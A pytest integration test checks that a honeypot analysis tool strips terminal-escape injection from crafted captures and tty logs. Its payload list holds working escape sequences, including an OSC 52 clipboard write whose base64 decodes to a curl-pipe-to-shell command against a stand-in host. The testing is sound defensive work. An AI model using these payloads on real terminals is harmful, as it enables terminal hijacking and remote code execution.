"""Terminal-escape payloads through every analysis command and `tty play`
(issue 14, "what the operator sees is safe").

An attacker's telnet session (crafted pcap in a capture directory, with an
events.json) and a honeypot's tty log carry OSC (window title, clipboard),
DCS, APC, PM, SOS, in their 7-bit and 8-bit (C1) forms and as C1 code points
in UTF-8, and terminal queries. `read`, `read --json`, `sessions`,
`session ID` (text and --json), `flows`, `report`, `tty list` (and --json)
must write none of them: no ESC at all (stdout is a pipe, so no colour), no
C1 control. `tty play` keeps colours and cursor movement and drops the rest;
`tty play --raw` writes the bytes as recorded. No lab, no network.

Run:  /usr/bin/python3 -m pytest -v tests/integration/test_escapes.py
Binary under test: $HONEYNET_BIN (default /work/main/build/honeynet).
"""
import json
import struct
import subprocess

import pytest

import sesscraft as sc
from sesscraft import Conn, Pcap

# Every way to open a string or talk to the terminal that must not get through.
HOSTILE = [
    b"\x1b]0;pwned-title\x07",                            # OSC 0: window title, BEL-terminated
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",       # OSC 52: set the clipboard
    b"\x1b]2;st-title\x1b\\",                            # OSC ended by ST
    b"\x1bP$q\"p\x1b\\",                                 # DCS DECRQSS (the terminal answers)
    b"\x1bP1;1|17/626f6f6d\x1b\\",                       # DCS DECUDK
    b"\x1b_apc-payload\x1b\\",                           # APC
    b"\x1b^pm-payload\x1b\\",                            # PM
    b"\x1bXsos-payload\x1b\\",                           # SOS
    b"\x9d0;c1-osc-title\x9c",                           # 8-bit OSC ... ST
    b"\x90q#0;2;0;0;0\x9c",                              # 8-bit DCS (sixel)
    b"\x9f8bit-apc\x9c\x9e8bit-pm\x9c\x988bit-sos\x9c",  # 8-bit APC, PM, SOS
    b"\xc2\x9d0;utf8-osc\xc2\x9c",                       # C1 OSC as a UTF-8 code point
    b"\x1b[6n\x1b[c\x1b[>c\x1b[21t\x1b[8;1;1t\x9b6n",    # queries, window ops
    b"\x1b[?1000h\x1b[?1004h",                           # mouse and focus reporting
]
PAYLOAD = b"".join(HOSTILE)
# Sequences that must never reach the terminal, as bytes.
INTRODUCERS = [b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b^", b"\x1bX", b"\x1b[6n", b"\x1b[c", b"\x1b[>c", b"\x1b[21t",
               b"\x1b[8;1;1t", b"\x1b[?1000h", b"\x1b[?1004h"]
C1 = set(range(0x80, 0xA0))

T0 = 1795710149.0  # 2026-11-26T16:22:29Z
OPEN, CLOSE, WRITE, EXEC = 1, 2, 3, 4
READ, OUT = 1, 2


def c1_problems(out: bytes) -> list:
    """Raw C1 bytes and C1 code points in out (bytes of valid multi-byte characters other than C1 are fine)."""
    found = []
    text = out.decode("utf-8", errors="surrogateescape")
    for i, ch in enumerate(text):
        o = ord(ch)
        if 0x80 <= o <= 0x9F:
            found.append("U+%04X at char %d" % (o, i))
        elif 0xDC80 <= o <= 0xDC9F:  # a raw byte 0x80..0x9f that is not part of UTF-8
            found.append("byte 0x%02x at char %d" % (o - 0xDC00, i))
    return found


def assert_no_escapes(what: str, out: bytes):
    """Output of an analysis command to a pipe: no ESC at all, no C1."""
    assert b"\x1b" not in out, "%s wrote ESC: %r" % (what, out[max(0, out.find(b"\x1b") - 40):out.find(b"\x1b") + 40])
    problems = c1_problems(out)
    assert not problems, "%s wrote C1 controls: %s" % (what, problems[:5])


def assert_no_dangerous(what: str, out: bytes):
    """Output meant to be rendered (tty play): ESC only for kept sequences, no string introducer, no C1."""
    for seq in INTRODUCERS:
        assert seq not in out, "%s wrote %r" % (what, seq)
    problems = c1_problems(out)
    assert not problems, "%s wrote C1 controls: %s" % (what, problems[:5])


def run(argv) -> subprocess.CompletedProcess:
    r = subprocess.run([str(a) for a in argv], capture_output=True, timeout=120)
    assert r.returncode == 0, "%s: rc %d\n%s" % (argv[1:], r.returncode, r.stderr.decode(errors="replace"))
    return r


def hostile_capture(d):
    """A capture directory: a telnet session where the attacker types escape
    sequences and the honeypot's shell prints them, an HTTP request with them
    in the request line and headers, and an events.json that names the flows."""
    p = Pcap(t0=T0)
    t = Conn(p, ("198.51.100.7", 51000), ("192.0.2.10", 23), cisn=42, sisn=4242)
    t.handshake()
    cli, srv = bytearray(), bytearray()

    def s(data):
        t.server(len(srv), data)
        srv.extend(data)

    def c(data):
        t.client(len(cli), data, dt=0.2)
        cli.extend(data)

    s(b"\r\nhp1 login: ")
    c(b"root\r\n")
    s(b"root\r\nPassword: ")
    c(b"root\r\n")
    s(b"\r\n# ")
    c(b"printf '\\033]0;pwned\\007'\r\n")
    s(b"printf '\\033]0;pwned\\007'\r\n" + PAYLOAD + b"\x1b[1;31mred\x1b[0m\r\n# ")
    c(PAYLOAD + b"\r\n")  # typed raw, too
    s(b"\r\n# ")
    t.sent["client"], t.sent["server"] = cli, srv
    t.close()

    h = Conn(p, ("198.51.100.7", 51001), ("192.0.2.10", 80), cisn=7, sisn=70)
    h.handshake()
    req = b"GET /" + PAYLOAD + b" HTTP/1.1\r\nHost: x" + PAYLOAD + b"\r\nUser-Agent: " + PAYLOAD + b"\r\n\r\n"
    h.client(0, req)
    h.server(0, b"HTTP/1.1 404 Not Found\r\nServer: " + PAYLOAD + b"\r\n\r\n")
    h.sent["client"], h.sent["server"] = bytearray(req), bytearray()
    h.close()
    p.write(d / "inside-20261126T162229Z-0000.pcap")

    # events.json as a honeywall before the fix wrote it (ensure_ascii off: a
    # C1 code point raw), plus a tampered verdict naming the honeypot with escapes.
    hostile_text = PAYLOAD.decode("utf-8", errors="replace")
    events = [
        {"timestamp": "2026-11-26T16:22:29.001000+0000", "flow_id": 1, "event_type": "honeywall",
         "src_ip": "198.51.100.7", "src_port": 51000, "dest_ip": "192.0.2.10", "dest_port": 23, "proto": "TCP",
         "honeypot": "hp1\x1b]0;hp-title\x07\u009d", "honeywall": {"action": "allowed", "direction": "inbound",
                                                                   "reason": "ok\x1bP1$r\x1b\\"}},
        {"timestamp": "2026-11-26T16:22:31.000000+0000", "event_type": "tty", "honeypot": "hp1",
         "tty": {"id": 3, "session": "hp1:3", "name": "pts/0", "action": "exec", "command": hostile_text,
                 "argv": [hostile_text]}},
    ]
    with open(d / "events.json", "w", encoding="utf-8") as f:
        for e in events:
            f.write(json.dumps(e, ensure_ascii=False) + "\n")


def rec(what: int, tty: int, direction: int, t: float, data: bytes = b"") -> bytes:
    sec = int(t)
    usec = int(round((t - sec) * 1e6))
    return struct.pack("<6Q", what, tty, len(data), direction, sec, usec) + data


SHOWN_PIECES = [
    b"# printf '\\033]0;pwned\\007'\r\n",
    # split inside sequences across records: the OSC, the DCS, an 8-bit OSC, a UTF-8 C1
    PAYLOAD[:3], PAYLOAD[3:40], PAYLOAD[40:41], PAYLOAD[41:],
    b"\x1b[1;31mr", b"ed\x1b[0m\r\n",
    b"\x1b[1;32mgreen\x1b", b"[0m \x1b[2;5Hmoved \xc3\xa9t\xc3\xa9 \x1b]0;again", b"\x07done\r\n",
]


def hostile_tty_log(path):
    recs = [rec(OPEN, 3, 0, T0, b"pts/0")]
    for i, piece in enumerate(SHOWN_PIECES):
        recs.append(rec(WRITE, 3, OUT, T0 + 1 + i * 0.01, piece))
    recs.append(rec(WRITE, 3, READ, T0 + 0.5, PAYLOAD + b"\r"))
    recs.append(rec(EXEC, 3, 0, T0 + 0.6, b"printf\0" + PAYLOAD + b"\0"))
    recs.append(rec(EXEC, 3, 0, T0 + 0.7, b"echo\0line1\nINBOUND TCP: forged\0"))
    # another session whose command is cut at 60 bytes in the table, where a € (e2 82 ac) is split
    recs.append(rec(OPEN, 5, 0, T0 + 3, b"pts/1"))
    recs.append(rec(EXEC, 5, 0, T0 + 3.1, b"echo\0" + "\u20ac\u00e9".encode() * 20 + b"\0"))
    recs.append(rec(CLOSE, 3, 0, T0 + 2))
    path.write_bytes(b"".join(recs))


@pytest.fixture
def capdir(tmp_path):
    d = tmp_path / "capture"
    d.mkdir()
    hostile_capture(d)
    return d


def test_analysis_commands_write_no_escape_sequences(honeynet_bin, capdir):
    outs = {}
    outs["read"] = run([honeynet_bin, "read", capdir]).stdout
    outs["read -X"] = run([honeynet_bin, "read", "-X", capdir]).stdout
    outs["read --json"] = run([honeynet_bin, "read", "--json", capdir]).stdout
    outs["sessions"] = run([honeynet_bin, "sessions", "--wide", capdir]).stdout
    outs["sessions --json"] = run([honeynet_bin, "sessions", "--json", "--all", capdir]).stdout
    sessions = json.loads(outs["sessions --json"])
    assert len(sessions) == 2, sessions
    for s in sessions:
        outs["session %s" % s["id"]] = run([honeynet_bin, "session", s["id"], capdir]).stdout
        outs["session %s --json" % s["id"]] = run([honeynet_bin, "session", s["id"], "--json", capdir]).stdout
    outs["flows"] = run([honeynet_bin, "flows", capdir]).stdout
    outs["flows --json"] = run([honeynet_bin, "flows", "--json", capdir]).stdout
    outs["report"] = run([honeynet_bin, "report", capdir]).stdout
    outs["report --json"] = run([honeynet_bin, "report", "--json", capdir]).stdout
    for what, out in outs.items():
        assert out, what
        assert_no_escapes(what, out)
    # The payload is still there to read, made visible.
    telnet = next(s for s in sessions if s["server_port"] == 23)
    text = outs["session %s" % telnet["id"]].decode()
    assert "\\x1b]0;pwned-title\\x07" in text and "\\x9d0;c1-osc-title\\x9c" in text, text
    # JSON keeps the bytes as JSON escapes: the same string when parsed.
    chunks = json.loads(outs["session %s --json" % telnet["id"]])
    assert any("\x1b]0;pwned-title\x07" in c.get("text", "") for s in chunks for c in s.get("chunks", [s])), chunks


def test_tty_list_shows_controls_escaped(honeynet_bin, tmp_path):
    d = tmp_path / "tty"
    d.mkdir()
    hostile_tty_log(d / "hp1.ttylog")
    out = run([honeynet_bin, "tty", "list", "--wide", d]).stdout
    assert_no_escapes("tty list", out)
    assert b"\\x1b]0;pwned-title\\x07" in out and b"\\x9d0;c1-osc-title\\x9c" in out, out
    assert b"\\xc2\\x9d0;utf8-osc" in out, out
    assert b"echo line1\\x0aINBOUND TCP: forged" in out, out
    short = run([honeynet_bin, "tty", "list", d]).stdout  # the commands column cut at 60: not inside a character
    assert_no_escapes("tty list (short)", short)
    js = run([honeynet_bin, "tty", "list", "--json", d]).stdout
    assert_no_escapes("tty list --json", js)
    cmds = json.loads(js)[0]["commands"]
    assert cmds[0]["argv"][1].startswith("\x1b]0;pwned-title\x07"), cmds


def test_tty_play_drops_dangerous_sequences_keeps_colour(honeynet_bin, tmp_path):
    d = tmp_path / "tty"
    d.mkdir()
    hostile_tty_log(d / "hp1.ttylog")
    r = run([honeynet_bin, "tty", "play", "--no-wait", "hp1:3", d])
    out = r.stdout
    assert_no_dangerous("tty play", out)
    # colours, cursor movement and text are kept
    assert b"\x1b[1;31mred\x1b[0m" in out and b"\x1b[1;32mgreen\x1b[0m" in out, out
    assert b"\x1b[2;5Hmoved \xc3\xa9t\xc3\xa9 done\r\n" in out, out
    assert b"# printf '\\033]0;pwned\\007'\r\n" in out, out
    # nothing of the strings' contents shows
    for word in (b"pwned-title", b"Y3VybCBl", b"c1-osc-title", b"utf8-osc", b"apc-payload", b"sos-payload", b"again"):
        assert word not in out, (word, out)
    assert b"--raw" in r.stderr, r.stderr  # says something was left out
    # --input: what was typed is shown escaped
    r = run([honeynet_bin, "tty", "play", "--no-wait", "--input", "hp1:3", d])
    assert_no_dangerous("tty play --input", r.stdout)
    assert b"[input] ^[]0;pwned-title^G" in r.stdout, r.stdout


def test_tty_play_raw_writes_the_bytes_as_recorded(honeynet_bin, tmp_path):
    d = tmp_path / "tty"
    d.mkdir()
    hostile_tty_log(d / "hp1.ttylog")
    r = run([honeynet_bin, "tty", "play", "--no-wait", "--raw", "hp1:3", d])
    assert r.stdout == b"".join(SHOWN_PIECES)
    assert r.stderr == b""


def test_play_of_a_plain_session_is_unchanged(honeynet_bin, tmp_path):
    """Without anything to drop, play writes the WRITE bytes exactly and says nothing."""
    d = tmp_path / "tty"
    d.mkdir()
    shown = [b"login: ", b"\x1b[?2004h# ", b"\x1b[01;34mdir\x1b[0m  \x1b[Kfile\r\n", b"\x1b(0lqk\x1b(B\x1b7\x1b8\r\n"]
    recs = [rec(OPEN, 3, 0, T0, b"pts/0")]
    recs += [rec(WRITE, 3, OUT, T0 + 1 + i, s) for i, s in enumerate(shown)]
    (d / "hp1.ttylog").write_bytes(b"".join(recs))
    r = run([honeynet_bin, "tty", "play", "--no-wait", "hp1:3", d])
    # bracketed paste (?2004h) is not passed on (it would change how the reader's terminal pastes), silently
    assert r.stdout == b"".join(shown).replace(b"\x1b[?2004h", b""), r.stdout
    assert r.stderr == b"", r.stderr
